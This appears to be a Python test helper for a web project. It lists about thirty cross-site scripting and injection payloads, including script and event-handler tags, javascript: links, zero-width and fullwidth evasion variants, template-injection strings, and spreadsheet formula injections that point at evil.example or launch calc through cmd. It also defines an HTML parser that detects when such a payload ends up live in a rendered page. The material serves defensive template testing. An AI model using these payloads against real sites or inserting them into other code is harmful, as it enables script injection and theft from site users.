"""Texts that try to become part of a page, and a reader that notices when one did."""

import json
from html.parser import HTMLParser

MARK = "pwned"
PAYLOADS = [
    "<script pwned>alert(1)</script>",
    "</script><script pwned>alert(1)</script>",
    '"><script pwned>alert(1)</script>',
    "'><img src=x onerror=alert(1) pwned>",
    '" onmouseover="alert(1)" pwned="',
    "' autofocus onfocus='alert(1)' pwned='",
    "x onload=alert(1) pwned=1",
    "<svg pwned onload=alert(1)>",
    "<svg><animate pwned onbegin=alert(1)></svg>",
    '</title><img pwned src=x onerror="alert(1)">',
    "</textarea><iframe pwned src=javascript:alert(1)>",
    "--><b pwned onclick=alert(1)>",
    "]]><b pwned>x</b>",
    "</select></option><form pwned action=//evil.example>",
    "<a pwned href=javascript:alert(1)>กดตรงนี้</a>",
    "น้ำพริก<b pwned onclick=alert(1)>หนุ่ม",
    "๑๒๓\u0e48<b pwned onclick=alert(1)>",
    "\u202e<b pwned>txet\u202c",
    "<scr\u200bipt pwned>alert(1)</scr\u200bipt>",
    "<\u200bb\u2060 pwned>x",
    "＜script pwned＞alert(1)＜/script＞",
    "&lt;script pwned&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}{% debug %}<b pwned>",
    '=HYPERLINK("//evil.example","<b pwned>")',
    "@SUM(1+1)*cmd|' /C calc'!A0<b pwned>",
    "＝1+1<b pwned>",
    "%(name)s {name} {0.__class__} %s<b pwned>",
    '\\"});alert(1);//<b pwned>',
    "\\u003cscript pwned\\u003e<b pwned>",
    "${7*7}#{7*7}`<b pwned>`",
]
ADDRESSES = ("href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster")
DANGEROUS = ("javascript:", "vbscript:", "data:text", "data:image/svg")


class _Watcher(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self.data: str | None = None

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        for name, value in given.items():
            address = "".join((value or "").split()).lower()
            if (
                MARK in name
                or name.startswith("on")
                or (name in ADDRESSES and address.startswith(DANGEROUS))
                or name in ("style", "srcdoc")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        if MARK in tag or tag in ("iframe", "object", "embed", "base", "animate", "math"):
            self.found.append(f"<{tag}>")
        if tag == "script" and given.get("type") == "application/ld+json":
            self.data = ""
        elif tag == "script" and "src" not in given:
            self.found.append("<script> in the page")

    def handle_data(self, data):
        if self.data is not None:
            self.data += data

    def handle_endtag(self, tag):
        if tag == "script" and self.data is not None:
            json.loads(self.data)
            self.data = None


def made_by_payload(html: str) -> list[str]:
    """Elements, handlers and addresses in the page that none of our templates makes."""
    watcher = _Watcher()
    watcher.feed(html)
    watcher.close()
    return watcher.found
